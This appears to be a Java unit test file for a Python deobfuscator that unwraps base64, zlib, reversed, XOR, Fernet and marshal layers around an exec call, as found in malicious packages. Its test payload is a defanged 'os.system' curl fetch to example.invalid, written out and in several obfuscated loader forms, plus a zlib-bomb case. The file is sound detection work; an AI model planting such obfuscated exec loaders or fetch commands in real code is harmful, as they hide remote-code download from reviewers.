package dev.kingsnake.internal.decode;

import dev.kingsnake.DiagnosticCode;
import dev.kingsnake.Limits;
import dev.kingsnake.spi.PythonFile;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import static dev.kingsnake.internal.decode.Ast.a;
import static dev.kingsnake.internal.decode.Ast.b;
import static dev.kingsnake.internal.decode.Ast.bin;
import static dev.kingsnake.internal.decode.Ast.c;
import static dev.kingsnake.internal.decode.Ast.gen;
import static dev.kingsnake.internal.decode.Ast.i;
import static dev.kingsnake.internal.decode.Ast.lambda;
import static dev.kingsnake.internal.decode.Ast.list;
import static dev.kingsnake.internal.decode.Ast.n;
import static dev.kingsnake.internal.decode.Ast.ret;
import static dev.kingsnake.internal.decode.Ast.rev;
import static dev.kingsnake.internal.decode.Ast.s;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The evaluator on hand-built model trees (independent of the parser). Payloads were produced once with
 * CPython 3.11 from our own defanged text {@value #PAYLOAD}.
 */
class DeobfuscatorModelTest {
    static final String PAYLOAD = "import os\nos.system('curl https://example.invalid/x.sh')\n";
    static final String ZLIB_B64 = "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSkottLXT61IzC3ISdXLzCtLzMlM0a/QK85Q1+QCAGUsFFg=";

    private static Deobfuscator.Result peel(PythonFile f) {
        return new Deobfuscator(Limits.defaults()).peel(f, new DecodeBudget(1 << 26));
    }

    private static String only(Deobfuscator.Result r, List<String> chain) {
        assertEquals(1, r.layers().size(), () -> "layers: " + r.layers() + " diagnostics: " + r.diagnostics());
        DecodedLayer l = r.layers().get(0);
        assertEquals(chain, l.chain());
        return new String(l.content(), StandardCharsets.UTF_8);
    }

    @Test
    void execOfBase64OfZlib() {
        PythonFile f = new Ast().imp("base64").imp("zlib")
                .expr(c("exec", c("zlib.decompress", c("base64.b64decode", s(ZLIB_B64))))).file("setup.py");
        Deobfuscator.Result r = peel(f);
        assertEquals(PAYLOAD, only(r, List.of("base64", "zlib")));
        assertTrue(r.layers().get(0).python());
    }

    @Test
    void importAliasesResolveThroughBindings() {
        PythonFile f = new Ast().imp("base64", "b").imp("zlib", "z")
                .expr(c("exec", c("z.decompress", c("b.b64decode", s(ZLIB_B64))))).file("setup.py");
        assertEquals(PAYLOAD, only(peel(f), List.of("base64", "zlib")));
    }

    @Test
    void underscoreLambdaWithReversal() {
        String reversed = new StringBuilder(ZLIB_B64).reverse().toString();
        // _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1])); exec((_)(b'...'))
        PythonFile f = new Ast()
                .let("_", lambda("__", c(a(c("__import__", s("zlib")), "decompress"),
                        c(a(c("__import__", s("base64")), "b64decode"), rev(n("__"))))))
                .expr(c("exec", c(n("_"), b(reversed)))).file("obf.py");
        assertEquals(PAYLOAD, only(peel(f), List.of("reversed", "base64", "zlib")));
    }

    @Test
    void chrXorJoin() {
        byte[] p = PAYLOAD.getBytes(StandardCharsets.UTF_8);
        long[] codes = new long[p.length];
        for (int k = 0; k < p.length; k++) {
            codes[k] = p[k] ^ 13;
        }
        PythonFile f = new Ast()
                .expr(c("exec", c(a(s(""), "join"), gen(c("chr", bin(n("c"), "^", i(13))), "c", list(codes)))))
                .file("x.py");
        assertEquals(PAYLOAD, only(peel(f), List.of("xor", "chr")));
    }

    @Test
    void fernetWithKeyInAVariable() {
        String token = "gAAAAABlU_EAAAAAAAAAAAAAAAAAAAAAAI0AM9tUVOwcxhf0I2C3tNEh1efPaOPJ0qvwfLRwP7yP8qJHYw8tHUa7yREZt"
                + "Lnjl-pwkm_sYJQvz_k8VFL4_Cql2B01Q_CxTnvadeFOIvgdZPFQmxt8SHy00elF6_zHnw==";
        PythonFile f = new Ast().from("cryptography.fernet", "Fernet")
                .let("key", b("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="))
                .expr(c("exec", c(a(c(a(c("Fernet", n("key")), "decrypt"), b(token)), "decode")))).file("f.py");
        assertEquals(PAYLOAD, only(peel(f), List.of("fernet")));
    }

    @Test
    void piecewiseVariablesAndAHelperFunction() {
        String b64 = Base64.getEncoder().encodeToString(PAYLOAD.getBytes(StandardCharsets.UTF_8));
        PythonFile f = new Ast().from("base64", "b64decode")
                .def("unpack", List.of("code"), ret(c(a(c("b64decode", c(a(n("code"), "encode"), s("utf8"))),
                        "decode"), s("utf8"))))
                .let("part", s(b64.substring(0, 30)))
                .plusEq("part", s(b64.substring(30)))
                .expr(c("exec", c("unpack", n("part")))).file("h.py");
        assertEquals(PAYLOAD, only(peel(f), List.of("base64")));
    }

    @Test
    void marshalLoadsGivesACodeListing() {
        String marshalB64 = "4wAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBk"
                + "AVMAKQPpAAAAAE56HmN1cmwgaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvbSkC2gJvc9oGc3lzdGVtqQDzAAAAAPoDPHg++gg8b"
                + "W9kdWxlPnIIAAAAAQAAAHMnAAAA8AMBAQHYAAmACYAJgAnYAAmAAoQJ0Aoq0QAr1AAr0AAr0AAr0AArcgYAAAA=";
        PythonFile f = new Ast().imp("marshal").imp("base64")
                .expr(c("exec", c("marshal.loads", c("base64.b64decode", s(marshalB64))))).file("m.py");
        Deobfuscator.Result r = peel(f);
        String listing = only(r, List.of("base64", "marshal 3.11-3.13"));
        assertFalse(r.layers().get(0).python());
        assertTrue(listing.contains("name system"), listing);
        assertTrue(listing.contains("const 'curl https://example.invalid/m'"), listing);
    }

    @Test
    void decodedLiteralWithoutSink() {
        String b64 = Base64.getEncoder().encodeToString(PAYLOAD.getBytes(StandardCharsets.UTF_8));
        PythonFile f = new Ast().imp("base64").let("payload", c("base64.b64decode", s(b64))).file("p.py");
        assertEquals(PAYLOAD, only(peel(f), List.of("base64")));
    }

    @Test
    void unknownArgumentsGiveNothing() {
        PythonFile f = new Ast().imp("base64")
                .let("data", c("open", s("x")))
                .expr(c("exec", c("base64.b64decode", n("data"))))
                .expr(c("base64.b64decode", n("other"))).file("benign.py");
        Deobfuscator.Result r = peel(f);
        assertTrue(r.layers().isEmpty());
        assertTrue(r.diagnostics().isEmpty(), r.diagnostics()::toString);
    }

    @Test
    void zlibBombInALiteralIsCutOff() {
        byte[] bomb = PrimitivesTest.deflate(new byte[8 * 1024 * 1024]);
        String b64 = Base64.getEncoder().encodeToString(bomb);
        PythonFile f = new Ast().imp("base64").imp("zlib")
                .expr(c("exec", c("zlib.decompress", c("base64.b64decode", s(b64))))).file("bomb.py");
        Limits limits = Limits.builder().maxDecodedBytesPerLayer(1 << 20).build();
        Deobfuscator.Result r = new Deobfuscator(limits).peel(f, new DecodeBudget(1 << 26));
        assertTrue(r.layers().isEmpty());
        assertTrue(r.diagnostics().stream().anyMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED),
                r.diagnostics()::toString);
    }

    @Test
    void wrongFernetKeyIsDecodeIncomplete() {
        String token = "gAAAAABlU_EAAAAAAAAAAAAAAAAAAAAAAI0AM9tUVOwcxhf0I2C3tNEh1efPaOPJ0qvwfLRwP7yP8qJHYw8tHUa7yREZt"
                + "Lnjl-pwkm_sYJQvz_k8VFL4_Cql2B01Q_CxTnvadeFOIvgdZPFQmxt8SHy00elF6_zHnw==";
        PythonFile f = new Ast().from("cryptography.fernet", "Fernet")
                .expr(c("exec", c(a(c("Fernet", b("AQECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=")), "decrypt"),
                        b(token)))).file("f.py");
        Deobfuscator.Result r = peel(f);
        assertTrue(r.layers().isEmpty());
        assertTrue(r.diagnostics().stream().anyMatch(d -> d.code() == DiagnosticCode.DECODE_INCOMPLETE),
                r.diagnostics()::toString);
    }
}
